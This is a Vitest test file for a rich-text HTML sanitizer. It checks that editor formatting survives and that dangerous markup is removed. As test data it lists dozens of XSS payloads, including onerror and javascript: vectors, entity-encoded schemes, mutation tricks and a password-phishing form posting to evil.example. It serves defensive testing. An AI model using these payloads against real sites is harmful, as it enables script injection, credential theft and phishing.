import { describe, expect, it } from "vitest";
import { EDITOR_SAMPLE_HTML } from "~/components/studio/editor-output-sample";
import { sanitizeRichText } from "./sanitize-html.server";

describe("sanitizeRichText", () => {
  it("keeps editorial formatting", () => {
    const html =
      "<h2>Why</h2><p>A <strong>bold</strong> and <em>calm</em> plan.</p><ul><li>One</li></ul><blockquote>Quote</blockquote>";
    expect(sanitizeRichText(html)).toBe(html);
  });

  it("drops script elements and their content", () => {
    expect(sanitizeRichText('<p>Hi</p><script>alert("x")</script>')).toBe(
      "<p>Hi</p>",
    );
  });

  it("drops event handler attributes", () => {
    expect(
      sanitizeRichText(
        '<p onclick="steal()">Hi</p><img src="https://a.example/x.png" onerror="x()" alt="x">',
      ),
    ).toBe(
      '<p>Hi</p><img src="https://a.example/x.png" alt="x" loading="lazy" />',
    );
  });

  it("drops javascript: and data: URLs", () => {
    expect(sanitizeRichText('<a href="javascript:alert(1)">x</a>')).toBe(
      "<a>x</a>",
    );
    expect(sanitizeRichText('<a href="JaVaScRiPt:alert(1)">x</a>')).toBe(
      "<a>x</a>",
    );
    expect(
      sanitizeRichText(
        '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="d">',
      ),
    ).toBe('<img alt="d" loading="lazy" />');
  });

  it("drops iframes, styles and forms", () => {
    expect(
      sanitizeRichText(
        '<iframe src="https://evil.example"></iframe><style>p{}</style><form><input></form><p>ok</p>',
      ),
    ).toBe("<p>ok</p>");
  });

  // sanitize-html stays on 2.17.5 for Node 20 (docs/decisions/030-config-schema-node20-pins.md):
  // the later upstream fixes concern tags this policy never allows. Whatever those tricks
  // yield, nothing that runs script or leaves the allowlist comes out.
  it("keeps raw-text, foreign-content and refresh tricks out", () => {
    const tricks = [
      "<svg><textarea><img src=x onerror=alert(1)></textarea></svg>",
      "<math><xmp><img src=x onerror=alert(1)></xmp></math>",
      "<textarea></textarea/><img src=x onerror=alert(1)>",
      "<xmp></xmp/><img src=x onerror=alert(1)>",
      '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
      '<p><noscript></p><a href="javascript:alert(1)">x</a></noscript>',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<img srcset="javascript:alert(1) 1x" src="https://a.example/x.png" alt="x">',
      "<iframe><img src=x onerror=alert(1)><p>fallback</p></iframe>",
      '<a href="&#0000106avascript:alert(1)">z</a>',
    ];
    for (const html of tricks) {
      const clean = sanitizeRichText(html);
      expect(clean, html).not.toMatch(
        /onerror|javascript:|srcset|<(svg|math|textarea|xmp|noscript|meta|iframe|animate)\b/i,
      );
    }
  });

  it("makes external links open safely", () => {
    expect(sanitizeRichText('<a href="https://example.org">x</a>')).toBe(
      '<a href="https://example.org" rel="noopener noreferrer" target="_blank">x</a>',
    );
  });

  it("reads an href as a browser does: spaces, control characters and line breaks do not hide an external link", () => {
    for (const href of [
      " https://evil.example/",
      "\n\thttps://evil.example/ ",
      "ht\ntps://evil.example/",
      "&#x20;https://evil.example/",
      "HTTP://evil.example/",
    ])
      expect(sanitizeRichText(`<a href="${href}">x</a>`), href).toMatch(
        /^<a href="(?:https|HTTP):\/\/evil\.example\/" rel="noopener noreferrer" target="_blank">x<\/a>$/,
      );
  });

  it("keeps no author's target or rel on a link that is not external", () => {
    expect(
      sanitizeRichText('<a href="/blog" target="_blank" rel="opener">x</a>'),
    ).toBe('<a href="/blog">x</a>');
    expect(
      sanitizeRichText('<a href="mailto:a@example.org" target="_blank">x</a>'),
    ).toBe('<a href="mailto:a@example.org">x</a>');
  });

  // What an author (or a forged save request) could put into a body. None of it may run
  // script, load foreign content, restyle the page or post anywhere after sanitizing.
  const payloads = [
    "<script>alert(1)</script>",
    '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    '<img src="https://a.example/x.png" alt="x" onerror="alert(1)">',
    '<p onclick="alert(1)">x</p>',
    '<body onload="alert(1)"><p>x</p></body>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="jav&#97;script&colon;alert(1)">x</a>',
    '<a href=" &#x09;javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">',
    '<img src="javascript:alert(1)" alt="x">',
    '<img src="//evil.example/x.png" alt="x">',
    '<img src="http://evil.example/x.png" alt="x">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    '<p class="hidden" id="main">x</p>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="https://example.org" target="_top" rel="opener">x</a>',
    '<td colspan="999" style="x">x</td>',
  ];

  it("lets none of the attack payloads through", () => {
    for (const html of payloads) {
      const clean = sanitizeRichText(html);
      expect(clean, html).not.toMatch(
        /<(script|svg|iframe|object|embed|style|form|input|button|meta|base|link|body)\b/i,
      );
      expect(clean, html).not.toMatch(
        /\son\w+=|javascript:|vbscript:|data:|srcdoc|style=|class=|id=|xlink|colspan|src="(?!https:\/\/)|href="\/\//i,
      );
      expect(clean, html).not.toMatch(/rel="opener"|target="_top"/);
    }
  });

  it("keeps entity-encoded script links as text, without their address", () => {
    expect(sanitizeRichText('<a href="jav&#x61;script:alert(1)">x</a>')).toBe(
      "<a>x</a>",
    );
  });

  // The editor's whole output (app/components/studio/editor-output-sample.ts: every block and
  // mark, a table with header cells, an image with alt text) comes back as it went in. Only
  // what the sanitizer adds or spells differently is normalised: loading="lazy" on images,
  // rel and target on external links, and void elements written "<br />" for the editor's
  // "<br>" (the same element to an HTML parser).
  it("keeps everything the editor emits, unchanged", () => {
    const normalise = (html: string) =>
      html
        .replace(/ loading="lazy"/g, "")
        .replace(/ rel="noopener noreferrer" target="_blank"/g, "")
        .replace(/ \/>/g, ">");
    const clean = sanitizeRichText(EDITOR_SAMPLE_HTML);
    expect(normalise(clean)).toBe(EDITOR_SAMPLE_HTML);
    expect(clean).toContain(
      '<img src="https://media.example.org/chart.png" alt="Monthly spend by team, &quot;falling&quot; after March" loading="lazy" />',
    );
    expect(clean).toContain(
      '<a href="https://example.org/report?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">report</a>',
    );
    expect(clean).toContain('<a href="/insights/cloud-costs">insight</a>');
    expect(clean).toContain("<th><p>Service</p></th>");
  });

  it("is stable: sanitizing its own output changes nothing", () => {
    const once = sanitizeRichText(EDITOR_SAMPLE_HTML);
    expect(sanitizeRichText(once)).toBe(once);
  });
});
